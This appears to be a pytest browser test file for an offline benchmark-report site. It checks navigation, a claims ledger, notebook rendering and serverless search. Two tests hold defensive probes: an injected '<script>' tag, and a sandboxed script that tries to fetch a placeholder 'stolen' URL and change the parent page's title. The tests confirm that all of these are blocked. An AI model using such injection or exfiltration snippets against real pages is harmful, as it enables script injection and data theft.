"""The report opened from a memory stick: by file://, with every outside request stopped and listed."""

from pathlib import Path

import pytest

from site_project import write_project
from zephyr_lab.reporting.site import builder

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def opened_site(browser, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("checkout")
    write_project(root)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ZEPHYR_LAB_ROOT", str(root))
        return builder.build("tiny").index.parent


def test_index_leads_to_items_and_notebooks(visit, opened_site, tmp_path):
    visit.page.goto((opened_site / "index.html").as_uri())
    visit.page.get_by_role("link", name="Table 1: chat benchmarks partial").click()
    assert visit.page.locator("article h1").inner_text().startswith("Zephyr · Table 1")
    figure = visit.page.locator(".zl-figures img")
    assert figure.evaluate("picture => picture.complete && picture.naturalWidth > 0")
    assert "6.86 [6.43, 7.26]" in visit.page.locator(".zl-numbers").inner_text()
    visit.page.screenshot(path=tmp_path / "item.png", full_page=True)
    visit.page.locator("article").get_by_role("link", name="13 · Chat scores").click()
    assert "13 · Chat scores" in visit.page.locator("article h1").inner_text()
    assert (visit.outside, visit.errors) == ([], [])


def test_ledger_is_read_by_text_and_reasons_open_on_demand(visit, opened_site, tmp_path):
    visit.page.goto((opened_site / "ledger.html").as_uri())
    claims = visit.page.locator(".zl-claims")
    assert "reproduced\n+0.42 [+0.1, +0.74], n 80" in claims.first.inner_text()
    reason = visit.page.get_by_text("the interval lies above 0")
    assert not reason.is_visible()
    claims.first.get_by_text("more").first.click()
    assert reason.is_visible()
    visit.page.screenshot(path=tmp_path / "ledger.png", full_page=True)
    assert (visit.outside, visit.errors) == ([], [])


def test_notebook_page_has_drawn_formulas_and_harmless_model_text(visit, opened_site, tmp_path):
    visit.page.goto((opened_site / "notebooks" / "13_scores.html").as_uri())
    visit.page.wait_for_selector("mjx-container svg")
    assert visit.page.locator("mjx-container svg").count() == 2
    assert "gpt-4 8.99" in visit.page.locator("article").inner_text()
    assert "<script>window.forged = true</script>" in visit.page.locator("article").inner_text()
    assert visit.page.evaluate("window.forged") is None
    assert visit.page.locator(".zl-frame iframe").get_attribute("sandbox") == "allow-scripts"
    visit.page.screenshot(path=tmp_path / "notebook.png", full_page=True)
    assert (visit.outside, visit.errors) == ([], [])


def test_search_works_without_a_server(visit, opened_site):
    visit.page.goto((opened_site / "search.html").as_uri() + "?q=scores")
    visit.page.get_by_role("link", name="13 · Chat scores").first.wait_for()
    visit.page.locator("ul.search li").first.wait_for()
    assert "13 · Chat scores" in visit.page.locator("ul.search").inner_text()
    assert visit.outside == []


def test_a_sandboxed_script_draws_but_reaches_nothing(visit, tmp_path):
    from zephyr_lab.reporting.site.notebooks import safe_html

    script = """
    <p id="said">waiting</p>
    <script>
      document.getElementById("said").textContent = "drawn";
      fetch("https://example.invalid/stolen").catch(() => {});
      try { parent.document.title = "forged"; } catch (error) {}
    </script>"""
    page = tmp_path / "page.html"
    page.write_text(f"<title>mine</title>{safe_html(script)}", encoding="utf-8")
    visit.page.goto(page.as_uri())
    visit.page.frame_locator("iframe").get_by_text("drawn").wait_for()
    assert visit.page.title() == "mine"
    assert visit.outside == []
